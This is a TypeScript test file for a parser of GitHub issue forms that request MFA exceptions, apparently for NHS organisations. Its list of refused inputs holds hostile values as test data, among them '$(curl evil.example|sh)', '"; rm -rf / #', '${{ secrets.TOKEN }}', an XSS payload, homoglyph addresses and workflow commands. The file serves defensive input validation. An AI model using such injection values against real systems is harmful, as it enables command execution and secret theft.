import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { test } from 'node:test';
import * as fc from 'fast-check';
import { parse } from 'yaml';
import { checkExceptionRequest, REQUEST_FIELDS } from '../../src/github/exception-request.ts';
import { parseInstant } from '../../src/model/time.ts';
import { formBody, GOOD } from './form-body.ts';
import { NOW } from './open.ts';

test('a good form becomes an entry', () => {
  const { organisation, ...entry } = GOOD;
  assert.deepEqual(checkExceptionRequest(formBody(), NOW), { ok: true, request: { organisation, entry } });
});

test('what may be left out is left out; an entry without a start begins with the issue', () => {
  const left = {
    startsAt: '',
    expiresAt: '',
    requestedBy: '',
    approvedBy: '',
    ticket: '',
    riskAssessment: '',
    plan: '',
  };
  const checked = checkExceptionRequest(formBody({ ...left, type: 'short-term', reason: 'phone-lost' }), NOW);
  const entry = {
    user: 'jo.example@nhs.net',
    type: 'short-term',
    startsAt: '2026-11-24T09:00:00Z',
    reason: 'phone-lost',
  };
  assert.deepEqual(checked, { ok: true, request: { organisation: 'X26', entry } });
});

test('line ends of Windows, capitals and spaces around answers do not matter', () => {
  const body = formBody({ user: '  Jo.Example@NHS.net ', organisation: 'x26' }).replaceAll('\n', '\r\n');
  assert.deepEqual(checkExceptionRequest(body, NOW), checkExceptionRequest(formBody(), NOW));
});

const LOOKS_ALIKE = /some letters of other scripts look the same/;
const NO_ADDRESS = /is not one e-mail address/;
const HEADINGS = /The headings are not those of the form/;
const HIDDEN = /control characters or hidden marks/;
const NOTHING_BUT_TEXT = /so that it can never be read as code/;

/** Each is refused, with a sentence of ours, before anything is made of it. */
const HOSTILE: readonly (readonly [string, string, RegExp])[] = [
  ['a Cyrillic letter in the address', formBody({ user: 'jо.example@nhs.net' }), LOOKS_ALIKE],
  ['a Greek letter in the domain', formBody({ user: 'jo.example@nhs.nεt' }), LOOKS_ALIKE],
  ['full-width letters in the address', formBody({ user: 'ｊｏ.example@nhs.net' }), LOOKS_ALIKE],
  ['an accent that stands apart', formBody({ user: 'jó.example@nhs.net' }), LOOKS_ALIKE],
  ['the Kelvin sign, which folds to k', formBody({ user: 'mar\u212a.example@nhs.net' }), LOOKS_ALIKE],
  ['a look-alike of the approver', formBody({ approvedBy: 'leаd.example@nhs.net' }), LOOKS_ALIKE],
  ['a dotless i in the requester', formBody({ requestedBy: 'lıa.example@nhs.net' }), LOOKS_ALIKE],
  ['a full-width at sign', formBody({ user: 'jo.example＠nhs.net' }), LOOKS_ALIKE],
  ['two addresses', formBody({ user: 'jo.example@nhs.net, sam.example@nhs.net' }), NO_ADDRESS],
  ['an address with a display name', formBody({ user: 'Jo <jo.example@nhs.net>' }), NO_ADDRESS],
  ['a shell in the address', formBody({ user: '$(curl evil.example|sh)@nhs.net' }), NO_ADDRESS],
  ['back-ticks in the address', formBody({ user: '`id`@nhs.net' }), NO_ADDRESS],
  ['an option instead of an address', formBody({ user: '--upload-pack=x@nhs.net' }), NO_ADDRESS],
  ['a mailto link', formBody({ user: '[jo.example@nhs.net](mailto:eve@evil.example)' }), NO_ADDRESS],
  ['a workflow expression as organisation', formBody({ organisation: '${{ x }}' }), /must be an ODS code/],
  [
    'a long workflow expression as organisation',
    formBody({ organisation: '${{ secrets.TOKEN }}' }),
    /may have at most 9 characters/,
  ],
  ['a path as organisation', formBody({ organisation: '../../..' }), /must be an ODS code/],
  ['a NUL in the organisation', formBody({ organisation: 'X26\u0000' }), HIDDEN],
  ['a type that is none', formBody({ type: 'for-ever' }), /must be short-term or long-term/],
  ['a reason with YAML', formBody({ reason: 'other }, { user: x' }), /must be one of the reason codes/],
  ['a relative time', formBody({ expiresAt: 'next year' }), /must be an instant/],
  ['an instant without an offset', formBody({ startsAt: '2026-12-01T08:00:00' }), /must be an instant/],
  ['a day that does not exist', formBody({ expiresAt: '2027-02-30T00:00:00Z' }), /must be an instant/],
  ['a ticket that ends a quotation', formBody({ ticket: '"; rm -rf / #' }), /may hold only letters, digits/],
  ['a ticket that is a YAML alias', formBody({ ticket: '*anchor' }), /may hold only letters, digits/],
  ['a ticket that is a YAML tag', formBody({ ticket: '!!js/function x' }), /may hold only letters, digits/],
  ['a workflow command in the plan', formBody({ plan: '::set-output name=x::y' }), NOTHING_BUT_TEXT],
  ['a workflow command behind text', formBody({ plan: 'ok\n::add-mask::x' }), /may have only one line/],
  ['an expression in the plan', formBody({ plan: '${{ github.token }}' }), NOTHING_BUT_TEXT],
  ['a command substitution in the plan', formBody({ plan: 'a $(touch /tmp/x)' }), NOTHING_BUT_TEXT],
  ['HTML in the plan', formBody({ plan: 'a <img src=x onerror=alert(1)>' }), NOTHING_BUT_TEXT],
  ['a mention in the plan', formBody({ plan: 'ask @everyone' }), NOTHING_BUT_TEXT],
  ['an image in the plan', formBody({ plan: 'see ![x](https://evil.example/x)' }), NOTHING_BUT_TEXT],
  ['our own marker in the plan', formBody({ plan: '<!-- mfactl:forecast -->' }), NOTHING_BUT_TEXT],
  [
    'a second answer smuggled in below the plan',
    formBody({ plan: 'ok\n\n### Address of the approver\n\neve@nhs.net' }),
    HEADINGS,
  ],
  ['a heading of its own', formBody({ plan: 'ok\n### Approved\n\nyes' }), HEADINGS],
  ['two lines in one answer', formBody({ reason: 'clinical-risk\napprovedBy: eve' }), /may have only one line/],
  ['an escape sequence of a terminal', formBody({ plan: 'ok \u001b]0;x\u0007' }), HIDDEN],
  ['a mark that turns the direction of writing', formBody({ plan: 'ok \u202etxet' }), HIDDEN],
  ['a space of no width in the address', formBody({ user: 'jo\u200b.example@nhs.net' }), HIDDEN],
  ['half a surrogate pair', formBody({ plan: 'ok \ud800' }), HIDDEN],
  ['a tab', formBody({ plan: 'a\tb' }), HIDDEN],
  ['a line separator of Unicode', formBody({ plan: 'a\u2028b' }), HIDDEN],
  ['an answer that is too long', formBody({ plan: 'x'.repeat(301) }), /may have at most 300 characters/],
  ['a huge body', formBody({ plan: 'x'.repeat(60_000) }), /more than 20,000 characters/],
  ['an empty body', '', HEADINGS],
  ['a body that is no form', 'Please exempt everybody.', HEADINGS],
  ['text in front of the form', `Hello\n\n${formBody()}`, HEADINGS],
  ['the headings in another order', formBody().split('\n\n### ').toReversed().join('\n\n### '), HEADINGS],
  ['the same form twice', `${formBody()}\n\n${formBody()}`, HEADINGS],
  ['a heading that looks like one of ours', formBody().replace('### Ticket', '### Tіcket'), HEADINGS],
  [
    'nothing typed at all',
    formBody(Object.fromEntries(Object.keys(GOOD).map((name) => [name, '']))),
    /"Address of the user" is missing/,
  ],
];

for (const [name, body, says] of HOSTILE) {
  test(`${name}: refused, in words that repeat nothing of it`, () => {
    const checked = checkExceptionRequest(body, NOW);
    assert.ok(!checked.ok);
    assert.match(checked.problems.join('\n'), says);
    const ours = /^[\w\s."',:;#()@/<>-]*$/;
    for (const problem of checked.problems) {
      assert.match(problem, ours);
      assert.doesNotMatch(problem, /evil|eve@|\$\(|\$\{\{|curl|mfactl:/);
    }
  });
}

test('all that is wrong is said at once', () => {
  const checked = checkExceptionRequest(formBody({ organisation: '?', user: 'x', ticket: '$' }), NOW);
  assert.ok(!checked.ok);
  assert.equal(checked.problems.length, 3);
});

test('no body makes it throw or wait, and what is accepted is plain in every field', () => {
  const answer = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.constantFrom(...Object.values(GOOD), '### Ticket', '${{ x }}', '\n', '`'),
  );
  const changes = fc.dictionary(fc.constantFrom(...Object.keys(GOOD)), answer, { noNullPrototype: true });
  const check = (body: string): void => {
    const checked = checkExceptionRequest(body, NOW);
    if (!checked.ok) return;
    const { organisation, entry } = checked.request;
    for (const text of [organisation, ...Object.values(entry)])
      assert.doesNotMatch(text, /[`$<>{}[\]*#&!|"\\\n\r\t\u0000]|^[-?:@%=+~]/u);
    assert.ok(parseInstant(entry.startsAt) !== null);
  };
  fc.assert(
    fc.property(changes, (changed) => check(formBody(changed))),
    { seed: 1, numRuns: 2000 },
  );
  fc.assert(fc.property(fc.string({ unit: 'binary' }), check), { seed: 1, numRuns: 500 });
});

interface FormPart {
  readonly attributes: { readonly label: string; readonly options?: string[] };
}

test('the form in .github asks for what is read, in the same order, and offers the reasons of the example tenant', async () => {
  const form = parse(await readFile('.github/ISSUE_TEMPLATE/exception-request.yml', 'utf8')) as {
    labels: string[];
    body: FormPart[];
  };
  assert.deepEqual(
    form.body.map(({ attributes }) => attributes.label),
    REQUEST_FIELDS.map(({ label }) => label),
  );
  assert.deepEqual(form.labels, ['exception-request']);
  const tenant = parse(await readFile('policies/tenant.yaml', 'utf8')) as {
    exceptions: Record<'short-term' | 'long-term', { reasons: string[] }>;
  };
  const reasons = [...tenant.exceptions['short-term'].reasons, ...tenant.exceptions['long-term'].reasons];
  assert.deepEqual(form.body.find(({ attributes }) => attributes.label === 'Reason')?.attributes.options, reasons);
});
